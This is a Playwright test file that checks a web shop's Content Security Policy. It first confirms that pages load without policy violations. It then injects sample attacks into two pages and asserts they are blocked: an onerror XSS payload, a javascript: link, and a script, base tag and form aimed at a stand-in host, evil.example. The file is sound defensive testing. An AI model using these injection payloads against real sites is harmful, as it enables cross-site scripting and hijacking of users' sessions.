import { expect, type Page, test } from '@playwright/test'
import { aboutPath, cartPath, deskPath, handoffPath, homePath, orderPath, productsPath } from '#core/paths.ts'

const unknown = 'A'.repeat(43)
const pages = [
  homePath('id'),
  productsPath('id'),
  aboutPath('id'),
  cartPath('id'),
  orderPath(unknown),
  handoffPath(unknown),
  deskPath(),
  '/tidak-ada/',
]

/** What the browser refused on the page, as it tells the page itself. */
async function refusalsOn(page: Page, path: string): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(() => {
    const refused: string[] = []
    Object.assign(window, { refused })
    addEventListener('securitypolicyviolation', (event) => {
      refused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`)
    })
  })
  await page.goto(path, { waitUntil: 'networkidle' })
  return () => page.evaluate(() => (window as unknown as { refused: string[] }).refused)
}

for (const path of pages) {
  test(`${path} asks for nothing that its policy refuses`, async ({ page }) => {
    const refusals = await refusalsOn(page, path)
    expect(await refusals()).toEqual([])
  })
}

for (const path of [homePath('id'), cartPath('id')]) {
  test(`${path} runs nothing that was put into it`, async ({ page }) => {
    const refusals = await refusalsOn(page, path)
    const thrown = await page.evaluate(() => {
      const script = document.createElement('script')
      const image = document.createElement('img')
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      form.method = 'post'
      const styled = document.createElement('p')
      styled.setAttribute('style', 'color: red')
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      // What turns text into code is refused before anything of it is in the page.
      const sinks = [
        () => script.append('window.wasRun = true'),
        () => (script.textContent = 'window.wasRun = true'),
        () => (script.src = 'https://evil.example/x.js'),
        () => (styled.innerHTML = '<img src=x onerror="window.wasRun = true">'),
        () => styled.insertAdjacentHTML('beforeend', '<b>x</b>'),
        () => new DOMParser().parseFromString('<p>x', 'text/html'),
        () => document.createRange().createContextualFragment('<p>x'),
        () =>
          (
            window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): object } }
          ).trustedTypes.createPolicy('lain', {}),
      ]
      const refused = sinks.map((sink) => {
        try {
          sink()
          return false
        } catch {
          return true
        }
      })
      const evil = document.createElement('a')
      evil.href = 'javascript:window.wasRun = true'
      image.src = 'https://evil.example/x.png'
      document.head.append(base)
      document.body.append(script, image, styled, form, evil)
      evil.click()
      form.submit()
      return refused
    })
    // A text put into a script as a node is let in, and then not run.
    expect(thrown).toEqual([false, ...Array(7).fill(true)])
    const directives = async () => [...new Set((await refusals()).map((refusal) => refusal.split(' ')[0]))].sort()
    await expect
      .poll(directives)
      .toEqual(
        expect.arrayContaining([
          'base-uri',
          'form-action',
          'img-src',
          'require-trusted-types-for',
          'style-src-attr',
          'trusted-types',
        ]),
      )
    expect((await directives()).some((directive) => directive?.startsWith('script-src'))).toBe(true)
    expect(await page.evaluate(() => 'wasRun' in window)).toBe(false)
  })
}
